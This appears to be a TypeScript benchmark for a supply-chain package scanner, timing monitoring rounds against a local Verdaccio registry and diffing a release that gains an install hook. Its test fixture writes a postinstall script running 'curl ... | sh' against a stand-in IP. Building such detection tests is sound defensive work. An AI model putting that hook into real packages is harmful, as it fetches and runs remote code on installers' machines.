// `npm run bench -- pkgscan-monitor [--packages N]`: a monitoring round over N watched packages (default 500) against a real
// Verdaccio on loopback (baseline, then unchanged), and the release diff of one package that gains an install hook.
import { createHash } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { runServer } from 'verdaccio';
import { standaloneContext } from '../engines/core/http/server.js';
import { InProcessRunner } from '../engines/core/jobs/in-process.js';
import { openMemoryStore } from '../engines/core/store.js';
import { defaultResourcesDir } from '../engines/pkgscan/config.js';
import { diffReleases } from '../engines/pkgscan/diffs/diff.js';
import { checkPackage, createWatched } from '../engines/pkgscan/monitoring/monitoring.js';
import { createPlatform } from '../engines/pkgscan/platform.js';
import { scanDeps } from '../engines/pkgscan/scans/deps.js';
import { pkgscanService } from '../engines/pkgscan/service.js';
import { packumentPath } from '../engines/pkgscan/sources/npm-mirror.js';
import { sourcesFromConfig } from '../engines/pkgscan/sources/resolve.js';
import { tgz } from '../engines/pkgscan/sources/testkit.js';

const args = process.argv.slice(3);
const at = args.indexOf('--packages');
const count = at >= 0 ? Number(args[at + 1]) : 500;

const peakRssMiB = (): number => Number(/VmHWM:\s+(\d+) kB/.exec(readFileSync('/proc/self/status', 'utf8'))?.[1] ?? 0) / 1024;

const root = await mkdtemp(path.join(tmpdir(), 'pkgscan-bench-monitor-'));
const app = (await runServer({
  self_path: path.join(root, 'config.yaml'),
  storage: path.join(root, 'storage'),
  uplinks: {},
  packages: { '**': { access: '$all', publish: '$all' } },
  auth: { htpasswd: { file: path.join(root, 'htpasswd'), max_users: -1 } },
  log: { type: 'stdout', format: 'pretty', level: 'fatal' },
  web: { enable: false },
} as unknown as Parameters<typeof runServer>[0])) as unknown as { listen(port: number, host: string, cb: () => void): Server };
const registry = await new Promise<Server>((resolve) => {
  const s = app.listen(0, '127.0.0.1', () => resolve(s));
});
const base = `http://127.0.0.1:${(registry.address() as AddressInfo).port}/`;

/** What `npm publish` sends: the version manifest with dist, and the tarball as a base64 attachment. */
async function publish(name: string, version: string, tarball: Uint8Array): Promise<void> {
  const file = `${name}-${version}.tgz`;
  const manifest = { name, version, _id: `${name}@${version}`, dist: { shasum: createHash('sha1').update(tarball).digest('hex'), integrity: `sha512-${createHash('sha512').update(tarball).digest('base64')}`, tarball: `${base}${name}/-/${file}` } };
  const body = { _id: name, name, 'dist-tags': { latest: version }, versions: { [version]: manifest }, _attachments: { [file]: { content_type: 'application/octet-stream', data: Buffer.from(tarball).toString('base64'), length: tarball.byteLength } } };
  const res = await fetch(`${base}${packumentPath(name)}`, { method: 'PUT', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
  if (res.status !== 201 && res.status !== 200) throw new Error(`publish refused: ${res.status}`);
}

const release = (name: string, version: string, hook = false): Promise<Uint8Array> =>
  tgz({
    'package/package.json': JSON.stringify({ name, version, main: 'index.js', ...(hook ? { scripts: { postinstall: 'node setup.js' } } : {}) }),
    'package/index.js': `module.exports = function ${name.replace(/-/g, '_')}(x) { return x * 2; };\n`,
    ...(hook ? { 'package/setup.js': "require('child_process').execSync('curl -s http://203.0.113.7/p.sh | sh');\n" } : {}),
  });

const dataDir = await mkdtemp(path.join(tmpdir(), 'pkgscan-bench-monitor-data-'));
try {
  for (let i = 0; i < count; i++) await publish(`bench-pkg-${i}`, '1.0.0', await release(`bench-pkg-${i}`, '1.0.0'));
  const resourcesDir = defaultResourcesDir();
  const p = createPlatform(standaloneContext(pkgscanService, { db: openMemoryStore([pkgscanService]), dataDir, resourcesDir, jobs: new InProcessRunner(pkgscanService.jobs) }, defaultResourcesDir));
  const deps = { ...scanDeps(p), sources: () => sourcesFromConfig(p.db, p.dataDir, {}, { npmMirror: base, timeoutMs: 30_000 }) };
  const ids: string[] = [];
  for (let i = 0; i < count; i++) ids.push(createWatched(p, { ecosystem: 'npm', name: `bench-pkg-${i}`, poll_interval_seconds: 300 }, 'system', null).id);
  const round = async (label: string): Promise<void> => {
    const results = new Map<string, number>();
    const t0 = process.hrtime.bigint();
    for (const id of ids) {
      const c = await checkPackage(p, deps, id, 'system', { trigger: 'scheduled' });
      results.set(c.result, (results.get(c.result) ?? 0) + 1);
    }
    const s = Number(process.hrtime.bigint() - t0) / 1e9;
    console.log(`  ${label}: ${s.toFixed(2)} s for ${count} packages (${[...results].map(([k, v]) => `${v} ${k}`).join(', ')}), peak RSS ${peakRssMiB().toFixed(0)} MiB (Verdaccio included)`);
  };
  console.log(`pkgscan-monitor: ${count} watched packages against Verdaccio on loopback`);
  await round('baseline round');
  await round('unchanged round');
  await publish('bench-pkg-0', '1.1.0', await release('bench-pkg-0', '1.1.0', true));
  const t0 = process.hrtime.bigint();
  const d = await diffReleases(p, deps, { ecosystem: 'npm', name: 'bench-pkg-0', from_version: '1.0.0', to_version: '1.1.0' }, 'system', null);
  console.log(`  release diff 1.0.0 -> 1.1.0 (gains an install hook): ${(Number(process.hrtime.bigint() - t0) / 1e9).toFixed(2)} s, escalated ${String(d.escalated)}`);
  p.db.close();
} finally {
  await new Promise<void>((resolve) => registry.close(() => resolve()));
  await rm(root, { recursive: true, force: true });
  await rm(dataDir, { recursive: true, force: true });
}
